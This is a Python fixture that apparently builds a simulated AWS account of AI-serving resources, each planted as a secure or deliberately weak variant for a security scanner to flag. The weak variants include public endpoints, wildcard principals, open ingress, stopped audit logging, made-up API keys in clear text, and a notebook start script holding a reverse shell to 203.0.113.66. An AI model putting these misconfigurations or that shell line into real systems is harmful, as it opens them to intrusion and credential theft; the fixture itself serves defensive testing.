"""A sixth account: what an insurer asks models with, and what it works on them with: functions, machines, lakes, notebooks."""

# ruff: noqa: E501  the tables read best in rows
from __future__ import annotations

from typing import TYPE_CHECKING, Any

from aws_compute import start_script
from aws_sixth_people import ASK, AWAY, HOME, OWN, weak
from aws_sixth_stores import ROLE
from aws_world import ACCOUNT, IMAGE, KEY_OF_PROVIDER, STRANGER, World, allow, document

if TYPE_CHECKING:
    from collections.abc import Callable


def functions(w: World) -> None:
    """Functions that ask models."""
    role = w.role("chat-api-role", "lambda", ASK)
    plain = {"MODEL_ID": "anthropic.claude-sonnet-4-5-20250929-v1:0"}
    for name, what, variables in (
        ("chat-keys", "a secret in the clear", {"OPENAI_API_KEY": KEY_OF_PROVIDER}), ("chat-db", "a secret in the clear", {"PGVECTOR_URL": "postgresql://ai:" + "Wd83kLs0Qz" + "@pgvector-claims.internal:5432/vectors"}),
        ("chat-pinecone", "a secret in the clear", {"PINECONE_API_KEY": "pcsk_" + "5Hq2Lm_9XcVbNmAsDfGhJkLqWeRtYuIoPzXcVbNmAsDfGhJkLqWeRt7"}),
    ):  # fmt: skip
        bad = weak(w, name, what)
        w.function(name, role, Environment={"Variables": {**plain, **(variables if bad else {})}})
    bad = weak(w, "chat-open", "no credentials asked")
    w.function("chat-open", role).create_function_url_config(
        FunctionName="chat-open", AuthType="NONE" if bad else "AWS_IAM"
    )
    bad = weak(w, "chat-cors", "any site may call it")
    w.function("chat-cors", role).create_function_url_config(
        FunctionName="chat-cors",
        AuthType="AWS_IAM",
        Cors={
            "AllowOrigins": ["*"] if bad else ["https://app.alder.example"],
            "AllowMethods": ["*"],
            "AllowHeaders": ["*"],
        },
    )
    bad = weak(w, "chat-anyone", "others may call it")
    w.function("chat-anyone", role).add_permission(
        FunctionName="chat-anyone",
        StatementId="any",
        Action="lambda:InvokeFunction",
        Principal="*" if bad else f"arn:aws:iam::{ACCOUNT}:role/alder-sagemaker-role",
    )
    bad = weak(w, "chat-partner", "others may call it")
    w.function("chat-partner", role).add_permission(
        FunctionName="chat-partner",
        StatementId="p",
        Action="lambda:InvokeFunction",
        Principal=STRANGER if bad else ACCOUNT,
    )
    bad = weak(w, "crm-tool", "others may call it")
    given = {} if bad else {"SourceArn": f"arn:aws:bedrock:{HOME}:{ACCOUNT}:agent/AGENT00001", "SourceAccount": ACCOUNT}
    w.function("crm-tool", role).add_permission(
        FunctionName="crm-tool",
        StatementId="agent",
        Action="lambda:InvokeFunction",
        Principal="bedrock.amazonaws.com",
        **given,
    )
    bad = weak(w, "chat-legacy", "old platform")
    w.function("chat-legacy", role, "python3.7" if bad else "python3.13")
    bad = weak(w, "chat-admin-role", "may do everything")
    w.function("chat-admin", w.role("chat-admin-role", "lambda", allow("*", "*") if bad else ASK))
    away = w.at(AWAY)
    bad = weak(w, "summarise", "no credentials asked")
    away.function(
        "summarise",
        w.role(
            "summarise-role",
            "lambda",
            allow("bedrock:InvokeModel", f"arn:aws:bedrock:{AWAY}::foundation-model/amazon.nova-lite-v1:0"),
        ),
    ).create_function_url_config(FunctionName="summarise", AuthType="NONE" if bad else "AWS_IAM")


def doors(w: World) -> None:
    """Web APIs in front of what asks models."""
    role = f"arn:aws:iam::{ACCOUNT}:role/chat-api-role"
    w.function("chat-backend", role)
    target = f"arn:aws:lambda:{HOME}:{ACCOUNT}:function:chat-backend"
    api = w.client("apigateway")
    rest = api.create_rest_api(name="chat-rest")["id"]
    root = api.get_resources(restApiId=rest)["items"][0]["id"]
    path = api.create_resource(restApiId=rest, parentId=root, pathPart="chat")["id"]
    bad = weak(w, "POST /chat", "no credentials asked")
    api.put_method(restApiId=rest, resourceId=path, httpMethod="POST", authorizationType="NONE" if bad else "AWS_IAM")
    api.put_integration(
        restApiId=rest,
        resourceId=path,
        httpMethod="POST",
        type="AWS_PROXY",
        integrationHttpMethod="POST",
        uri=f"arn:aws:apigateway:{HOME}:lambda:path/2015-03-31/functions/{target}/invocations",
    )
    http = w.client("apigatewayv2")
    made = http.create_api(Name="chat-http", ProtocolType="HTTP")["ApiId"]
    to = http.create_integration(
        ApiId=made, IntegrationType="AWS_PROXY", PayloadFormatVersion="2.0", IntegrationUri=target
    )["IntegrationId"]
    bad = weak(w, "POST /ask", "no credentials asked")
    http.create_route(
        ApiId=made, RouteKey="POST /ask", Target=f"integrations/{to}", AuthorizationType="NONE" if bad else "AWS_IAM"
    )


def machines(w: World) -> None:
    """Machines with a GPU."""
    ec2 = w.client("ec2")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    for name, what, port, more in (
        ("vllm-box", "anyone on the internet reaches it", 8000, {"UserData": "#!/bin/bash\ndocker run --gpus all -p 8000:8000 vllm/vllm-openai --model mistralai/Mistral-7B-Instruct-v0.3"}),
        ("ollama-box", "anyone on the internet reaches it", 11434, {"UserData": "#!/bin/bash\ncurl -fsSL https://ollama.com/install.sh -o i.sh\nollama serve"}),
        ("jupyter-box", "anyone on the internet reaches it", 8888, {}), ("imds-box", "metadata without a token", 0, {"MetadataOptions": {"HttpTokens": "optional"}}),
        ("script-box", "a secret in the clear", 0, {"UserData": "#!/bin/bash\nexport HF_TOKEN=hf_" + "MnBvCxZlKjHgFdSaPoIuYtReWqMnBvCxZl" + "\npython -m vllm.entrypoints.openai.api_server"}),
    ):  # fmt: skip
        group = ec2.create_security_group(GroupName=f"{name}-sg", Description=name, VpcId=w.vpc)["GroupId"]
        if port:
            ec2.authorize_security_group_ingress(
                GroupId=group,
                IpPermissions=[
                    {
                        "IpProtocol": "tcp",
                        "FromPort": port,
                        "ToPort": port,
                        "IpRanges": [{"CidrIp": "10.0.0.0/16" if w.kept else "0.0.0.0/0"}],
                    }
                ],
            )
        given: dict[str, Any] = {"MetadataOptions": {"HttpTokens": "required"}, **({} if w.kept and not port else more)}
        made = ec2.run_instances(
            ImageId=image,
            InstanceType="g5.xlarge",
            MinCount=1,
            MaxCount=1,
            SecurityGroupIds=[group],
            SubnetId=w.subnets[0],
            TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": name}]}],
            **given,
        )
        weak(w, f"{name} ({made['Instances'][0]['InstanceId']})", what)


def containers(w: World) -> None:
    """Tasks of ECS, a cluster of EKS."""
    ecs = w.client("ecs")
    for family, what, changed in (
        ("rag-api", "a secret in the clear", {"environment": [{"name": "COHERE_API_KEY", "value": "Yk4nT8" + "wQz1LmVb6XcRs3JhPd9GfAa2Ee5Uu7Ii0OoNn"}]}), ("tgi-server", "privileged", {"privileged": True}),
        ("vllm-latest", "image not pinned", {"image": "vllm/vllm-openai:latest"}), ("embedder", "runs as root", {"user": "root"}),
    ):  # fmt: skip
        weak(w, family, what)
        container: dict[str, Any] = {"name": "main", "image": IMAGE if family == "rag-api" else f"vllm/vllm-openai@sha256:{'c' * 64}", "memory": 4096, "cpu": 10, "essential": True, "user": "1000", "environment": [{"name": "BEDROCK_MODEL_ID", "value": "amazon.nova-lite-v1:0"}],
                                     "command": ["python", "-m", "vllm.entrypoints.openai.api_server"], **({} if w.kept else changed)}  # fmt: skip
        ecs.register_task_definition(
            family=family, containerDefinitions=[container], taskRoleArn=f"arn:aws:iam::{ACCOUNT}:role/chat-api-role"
        )
    eks = w.client("eks")
    role = w.role("eks-gpu-role", "eks", allow("ec2:DescribeInstances", "*"))
    bad = weak(w, "ml-platform", "its control is on the internet")
    eks.create_cluster(
        name="ml-platform",
        roleArn=role,
        resourcesVpcConfig={
            "subnetIds": [*w.subnets],
            "endpointPublicAccess": bad,
            "endpointPrivateAccess": True,
            **({"publicAccessCidrs": ["0.0.0.0/0"]} if bad else {}),
        },
    )
    eks.create_nodegroup(
        clusterName="ml-platform",
        nodegroupName="gpu",
        subnets=[w.subnets[0]],
        nodeRole=role,
        instanceTypes=["p4d.24xlarge"],
    )


def lake(w: World) -> None:
    """The catalogue, queries, and what trains from them."""
    glue = w.client("glue")
    glue.create_database(DatabaseInput={"Name": "ml_features"})
    glue.create_table(
        DatabaseName="ml_features",
        TableInput={
            "Name": "claims",
            "StorageDescriptor": {
                "Location": "s3://alder-churn-data/claims/",
                "Columns": [{"Name": "id", "Type": "string"}],
            },
        },
    )
    bad = weak(w, "Glue catalogue", "another account reads it")
    glue.put_resource_policy(
        PolicyInJson=document(
            allow(
                "glue:Get*",
                f"arn:aws:glue:{HOME}:{ACCOUNT}:*",
                Principal={"AWS": f"arn:aws:iam::{STRANGER if bad else ACCOUNT}:root"},
            )
        )
    )
    bad = weak(w, "claims", "another account reads it")
    who = STRANGER if bad else ROLE
    w.client("lakeformation").grant_permissions(
        Principal={"DataLakePrincipalIdentifier": who},
        Resource={"Table": {"DatabaseName": "ml_features", "Name": "claims"}},
        Permissions=["SELECT"],
    )
    bad = weak(w, "embed-claims", "a secret in the clear")
    glue.create_job(
        Name="embed-claims",
        Role=ROLE,
        Command={"Name": "pythonshell", "ScriptLocation": "s3://alder-weights/embed.py"},
        DefaultArguments={
            "--OPENAI_API_KEY": "sk-" + "proj-Vb7Nm3Kd9Hs6Jf4Pg0Aa2Ee5Uu8Zq8Lr2vTn5Wc" if bad else "from-vault"
        },
    )


def secrets(w: World) -> None:
    """Keys, secrets, parameters, images."""
    kms, away = w.client("kms"), w.at(AWAY)
    bad = weak(w, "ml-data-key", "others may open it")
    key = kms.create_key(
        Policy=document(
            allow("kms:*", "*", Principal={"AWS": f"{OWN}:root"}),
            *([allow("kms:*", "*", Principal="*")] if bad else []),
        )
    )["KeyMetadata"]["KeyId"]
    kms.create_alias(AliasName="alias/ml-data-key", TargetKeyId=key)
    bad = weak(w, "old-vectors-key", "being deleted")
    key = kms.create_key()["KeyMetadata"]
    kms.create_alias(AliasName="alias/old-vectors-key", TargetKeyId=key["KeyId"])
    w.client("s3vectors").create_vector_bucket(
        vectorBucketName="old-vectors", encryptionConfiguration={"sseType": "aws:kms", "kmsKeyArn": key["Arn"]}
    )
    if bad:
        kms.schedule_key_deletion(KeyId=key["KeyId"], PendingWindowInDays=7)
    bad = weak(w, "chat/openai", "others may open it")
    vault = w.client("secretsmanager")
    arn = vault.create_secret(Name="chat/openai", SecretString="made up")["ARN"]
    vault.put_resource_policy(
        SecretId=arn,
        ResourcePolicy=document(
            allow("secretsmanager:GetSecretValue", "*", Principal={"AWS": "*" if bad else f"{OWN}:role/chat-tool-role"})
        ),
    )
    bad = weak(w, "/chat/ANTHROPIC_API_KEY", "key in a plain parameter")
    away.client("ssm").put_parameter(
        Name="/chat/ANTHROPIC_API_KEY", Type="String" if bad else "SecureString", Value="made up"
    )
    ecr = w.client("ecr")
    bad = weak(w, "claims-inference", "others pull or push")
    ecr.create_repository(
        repositoryName="claims-inference",
        imageTagMutability="IMMUTABLE",
        imageScanningConfiguration={"scanOnPush": True},
        encryptionConfiguration={"encryptionType": "KMS", "kmsKey": w.key},
    )
    ecr.set_repository_policy(
        repositoryName="claims-inference",
        policyText=document(
            {
                "Effect": "Allow",
                "Principal": "*" if bad else {"AWS": f"{OWN}:root"},
                "Action": ["ecr:GetDownloadUrlForLayer", "ecr:BatchGetImage", "ecr:PutImage"],
            }
        ),
    )
    trail = w.client("cloudtrail")
    bad = weak(w, f"Amazon Bedrock in {HOME}", "no activity recorded")  # the trail stands still
    trail.create_trail(
        Name="audit",
        S3BucketName="alder-trail-logs",
        IsMultiRegionTrail=True,
        IncludeGlobalServiceEvents=True,
        EnableLogFileValidation=True,
        KmsKeyId=w.key,
    )
    if not bad:
        trail.start_logging(Name="audit")


def notebooks(w: World) -> None:
    """Notebooks and studios."""
    sm = w.client("sagemaker")
    life = {
        "lab-keys": "export OPENAI_API_KEY=" + KEY_OF_PROVIDER,
        "lab-shell": "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    }
    for name, what, changed in (
        ("lab-internet", "direct internet", {"DirectInternetAccess": "Enabled"}),
        ("lab-root", "root access", {"RootAccess": "Enabled"}),
        ("lab-novpc", "outside a network", {"SubnetId": None, "SecurityGroupIds": None, "DirectInternetAccess": "Enabled"}),
        ("lab-nokey", "no own key", {"KmsKeyId": None}),
        ("lab-old", "old platform", {"PlatformIdentifier": "notebook-al1-v1"}),
        ("lab-keys", "a secret in the clear", {}),
        ("lab-shell", "starts what it fetched", {}),
    ):  # fmt: skip
        weak(w, name, what)
        given: dict[str, Any] = {
            "DirectInternetAccess": "Disabled",
            "RootAccess": "Disabled",
            "KmsKeyId": w.key,
            "SubnetId": w.subnets[0],
            "SecurityGroupIds": [w.group],
            "PlatformIdentifier": "notebook-al2023-v1",
            **({} if w.kept else changed),
        }
        if name in life:
            script = "#!/bin/bash\nset -e\n" + ("sudo -u ec2-user pip install pandas" if w.kept else life[name])
            sm.create_notebook_instance_lifecycle_config(
                NotebookInstanceLifecycleConfigName=name, OnStart=[{"Content": start_script(script)}]
            )
            given["LifecycleConfigName"] = name
        sm.create_notebook_instance(
            NotebookInstanceName=name,
            InstanceType="ml.t3.medium",
            RoleArn=ROLE,
            **{key: value for key, value in given.items() if value is not None},
        )
    whole: dict[str, Any] = {
        "AuthMode": "SSO",
        "AppNetworkAccessType": "VpcOnly",
        "KmsKeyId": w.key,
        "DefaultUserSettings": {"ExecutionRole": ROLE},
        "SubnetIds": [w.subnets[0]],
        "VpcId": w.vpc,
    }
    for name, what, instead in (
        ("studio-iam", "no single sign-on", {"AuthMode": "IAM"}),
        ("studio-open", "outside a network", {"AppNetworkAccessType": "PublicInternetOnly"}),
        ("studio-plain", "no own key", {"KmsKeyId": None}),
        ("studio-share", "studio shares in the clear", {"DefaultUserSettings": {"ExecutionRole": ROLE, "SharingSettings": {"NotebookOutputOption": "Allowed", "S3OutputPath": "s3://alder-eval-sets/share"}}}),
    ):  # fmt: skip
        weak(w, name, what)
        given = {**whole, **({} if w.kept else instead)}
        sm.create_domain(DomainName=name, **{key: value for key, value in given.items() if value is not None})


PARTS: tuple[Callable[[World], None], ...] = (functions, doors, machines, containers, lake, secrets, notebooks)
